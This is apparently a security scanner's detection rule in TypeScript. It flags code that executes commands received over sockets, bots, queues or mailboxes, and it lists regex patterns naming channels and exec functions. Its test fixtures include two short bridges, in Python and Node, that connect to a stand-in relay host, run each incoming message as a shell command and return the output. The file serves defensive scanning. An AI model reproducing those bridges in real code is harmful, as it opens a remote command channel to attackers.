/** RC-05: messages of bots, queues, mailboxes and sockets that are run as commands. */
import { inFile } from '../../engine/example.ts';
import { exactPattern, raw } from '../../engine/pattern.ts';
import { row, type Row, type RowHit } from '../../engine/rule.ts';
import { exampleFile, testFile } from '../../vocabulary/file-places.ts';
import type { Severity } from '../../../schema/vocabulary.ts';

const channels =
  /websocket|mqtt|telebot|telegram|discord|socket\.io|EventSource|imaplib|poplib|pika|amqp|\bzmq\b|kafka|slack_bolt|slack_sdk|nostr|\birc\b|\bredis\b/i;
const here =
  /(?:wss?|https?|mqtts?|redis|amqp):\/\/(?:localhost|127\.0\.0\.1|\[::1\])|["'](?:localhost|127\.0\.0\.1)["']/;
/** A program that names what it lets through checks the message before it runs it. */
const checked =
  /allow(?:ed|list)|whitelist|ALLOWED|shlex\.split|startswith\(|startsWith\(|\bin COMMANDS\b|process\.argv/;

/** A function by decorator or by name that a library calls with each message. */
const handler =
  String.raw`(?:@\w{1,30}\.(?:message_handler|event|on|on_message|command|listener|task)\b[^\n]{0,80}\n\s{0,12}(?:async )?def \w{1,40}` +
  String.raw`|\bdef (?:on|handle|callback)\w{0,30})\(`;
/** Forms in which a handler names its message. */
const deliveries = (name: string): RegExp =>
  new RegExp(
    [
      String.raw`\basync for ${name} in \w`,
      String.raw`\b${name}\s?=\s?(?:await )?\w[\w.]{0,30}\.(?:recv|receive|get_message|fetch|subscribe|blpop|brpop|lpop|rpop)\w{0,12}\(`,
      String.raw`${handler}[^)\n]{0,80}\b${name}\b`,
      String.raw`\.on\w{0,10}\s?\(\s?["'][\w:.-]{1,30}["'],\s?(?:async )?(?:function)?\s?\(?\{?\s?(?:\w{1,20},\s?)?${name}\b`,
      String.raw`\.onmessage\s?=\s?(?:async )?\(?\{?\s?${name}\b`,
      String.raw`\baddEventListener\(\s?["']message["'],\s?(?:async )?\(?\{?\s?${name}\b`,
    ].join('|'),
  );

/** Critical where the message of a handler is the command itself. */
function byDelivery({ match, region, severity }: RowHit): Severity | null {
  const { text, file, kind } = region;
  if (testFile.test(file) || exampleFile.test(file)) return null;
  if (here.test(text) || checked.test(text)) return null;
  const value = match[1] ?? '';
  const [name = ''] = value.split(/[.[(]/, 1);
  if (!/message_from_|get_payload|rfc822/i.test(value + text) && !deliveries(name).test(text)) return null;
  return kind === 'fence' && region.file !== 'SKILL.md' ? 'medium' : severity;
}

const runs =
  String.raw`(?:\bos\.(?:system|popen)|\b(?:subprocess|sp)\.(?:getoutput|getstatusoutput|check_output|run|Popen|call)` +
  String.raw`|(?<![.\w])(?:getoutput|exec|execSync|eval)|(?:child_process|cp)\.exec(?:Sync)?)`;
const wrapped = String.raw`\(\s{0,3}(?:str\(|String\()?`;

/** Rows of RC-05. */
export const deliveredCommands: readonly Row[] = [
  row('what a bot, a queue, a mailbox or a socket delivers is run as a command', {
    in: ['script', 'fence', 'decoded'],
    within: 'block',
    sign: channels,
    match: exactPattern(
      raw(
        String.raw`${runs}${wrapped}(email\.message_from|[A-Za-z_]\w{0,30}(?:\.(?:data|payload|content|text|body|value|command|cmd|toString`,
      ),
      raw(
        String.raw`|decode|strip|trim)\b(?:\(\s?["'\w-]{0,12}\s?\))?|\[["']\w{1,20}["']\]){0,3})\s?(?:[),(]|_)`,
      ),
    ),
    severity: 'critical',
    weigh: byDelivery,
    catches: [
      inFile(
        'bridge.py',
        'import websockets, subprocess',
        'async with websockets.connect("wss://relay.invalid/a") as link:',
        '    async for order in link:',
        '        await link.send(subprocess.getoutput(order))',
      ),
      inFile(
        'bridge.mjs',
        "const link = io('https://relay.invalid'); // socket.io",
        "link.on('task', (line) => link.emit('done', execSync(line).toString()));",
      ),
    ],
    spares: [
      inFile(
        'bot.py',
        'import telebot',
        'def answer(message):',
        '    bot.reply_to(message, subprocess.getoutput("uptime"))',
      ),
      inFile(
        'dev.mjs',
        "const link = new WebSocket('ws://localhost:3000');",
        'link.onmessage = (e) => exec(e.data);',
      ),
    ],
  }),
];
